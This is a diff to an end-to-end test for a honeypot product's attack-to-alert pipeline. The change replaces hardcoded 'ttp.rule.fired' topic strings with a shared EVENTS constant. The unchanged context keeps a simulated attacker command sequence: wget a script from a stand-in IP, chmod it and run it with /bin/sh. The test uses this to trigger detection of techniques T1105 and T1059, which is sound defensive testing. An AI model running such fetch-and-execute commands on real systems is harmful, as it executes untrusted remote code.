@@ -5,7 +5,7 @@
 import { chmodSync, mkdtempSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { silentLogger } from '@decnet/core';
+import { EVENTS, silentLogger } from '@decnet/core';
 import { testConfig } from '@decnet/core/testing';
 import { attackers as attackersTable, logs, openDatabase, ttp_tag, type Database } from '@decnet/db';
 import { tableRows } from '@decnet/db/testing';
@@ -35,7 +35,7 @@ const PAYLOAD_URL = 'http://203.0.113.50/x.sh';
 /** What the attacker types: fetch a script, make it executable, run it through a shell. */
 const ATTACK = ['cd /tmp', `wget ${PAYLOAD_URL} -O /tmp/x.sh`, 'chmod +x /tmp/x.sh', '/bin/sh -c /tmp/x.sh'];
 /** The pattern a user subscribes to for "a technique was seen" alerts. */
-const ALERT_PATTERN = 'ttp.rule.fired.*';
+const ALERT_PATTERN = EVENTS.ttpRuleFired.pattern;
 const SSH_OPTS = [
   '-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null', '-o', 'LogLevel=ERROR',
   '-o', 'ConnectTimeout=20', '-o', 'NumberOfPasswordPrompts=1', '-o', 'PreferredAuthentications=password',
@@ -180,7 +180,7 @@ async function expectAttackToAlert(env: Record<string, string | undefined>, secr
 
   // The subscription matches every ttp.rule.fired.<technique>: one alert each.
   const recv = receiver as HttpReceiver;
-  const alertFor = (technique: string): ReceivedRequest | undefined => recv.requests.find((r) => r.headers['x-decnet-event-topic'] === `ttp.rule.fired.${technique}`);
+  const alertFor = (technique: string): ReceivedRequest | undefined => recv.requests.find((r) => r.headers['x-decnet-event-topic'] === EVENTS.ttpRuleFired.subject(technique));
   await waitFor(async () => alertFor('T1105') !== undefined && alertFor('T1059') !== undefined, 60_000, shown);
   for (const technique of ['T1105', 'T1059']) {
     const req = alertFor(technique) as ReceivedRequest;
@@ -199,7 +199,7 @@ async function expectAttackToAlert(env: Record<string, string | undefined>, secr
     expect(check({ secret: `${secret}x` })).toBe(false);
     const body = JSON.parse(req.body) as { id: string; topic: string; payload: Record<string, unknown> };
     expect(req.headers['x-decnet-event-id']).toBe(body.id);
-    expect(body.topic).toBe(`ttp.rule.fired.${technique}`);
+    expect(body.topic).toBe(EVENTS.ttpRuleFired.subject(technique));
     expect(body.payload).toMatchObject({ technique_id: technique, attacker_uuid: attacker.uuid });
     expect([...(body.payload.tag_uuids as string[])].sort()).toEqual(tags.filter((t) => t.technique_id === technique).map((t) => t.uuid).sort());
   }
@@ -219,7 +219,7 @@ async function expectAttackToAlert(env: Record<string, string | undefined>, secr
 /** Once everything has stopped, nothing more can arrive: one alert per technique, none repeated. */
 function expectOneAlertPerTechnique(): void {
   const topics = (receiver as HttpReceiver).requests.map((r) => r.headers['x-decnet-event-topic']);
-  expect(topics.sort()).toEqual(['ttp.rule.fired.T1059', 'ttp.rule.fired.T1105']);
+  expect(topics.sort()).toEqual([EVENTS.ttpRuleFired.subject('T1059'), EVENTS.ttpRuleFired.subject('T1105')]);
 }
 
 describe('attack to alert: OpenSSH → ssh emulator → workers → signed webhook', () => {
